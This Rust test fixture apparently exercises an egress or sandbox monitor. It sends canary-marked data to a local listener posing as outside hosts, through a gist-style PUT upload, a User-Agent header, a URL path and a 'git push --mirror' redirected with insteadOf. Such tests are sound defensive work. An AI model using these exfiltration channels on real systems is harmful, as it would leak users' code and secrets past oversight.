//! Requests as a forge or a file host would take them; no destination is granted unless the profile says so.

use std::io::Write;
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};

fn main() {
    let request = |text: String| {
        if let Ok(mut host) = TcpStream::connect(("127.0.0.1", trick::tcp_port())) {
            let _ = host.write_all(text.as_bytes());
        }
    };
    let upload = trick::mark("upload") + "\n";
    request(format!("PUT /gist HTTP/1.1\r\nHost: forge.example.test\r\nContent-Length: {}\r\n\r\n{upload}", upload.len()));
    request(format!("GET /pixel HTTP/1.1\r\nHost: files.example.test\r\nUser-Agent: {}\r\n\r\n", trick::mark("agent-header")));
    request(format!("GET /crates/{} HTTP/1.1\r\nHost: files.example.test\r\n\r\n", trick::mark("path")));
    let repository = trick::out_dir().join("repository");
    let _ = std::fs::create_dir_all(&repository);
    git(&repository, &["init", "--quiet"]);
    git(&repository, &["push", "--mirror", "forge:own/repository"]);
}

/// Where `forge:` is stands in the environment: the report quotes arguments, and a quoted mark would count.
fn git(repository: &Path, args: &[&str]) {
    let mut git = Command::new("git");
    git.arg("-C").arg(repository).args(args).env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_TERMINAL_PROMPT", "0");
    let key = format!("url.http://127.0.0.1:{}/{}/.insteadOf", trick::tcp_port(), trick::mark("push"));
    git.env("GIT_CONFIG_COUNT", "1").env("GIT_CONFIG_KEY_0", key).env("GIT_CONFIG_VALUE_0", "forge:");
    let _ = git.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
}
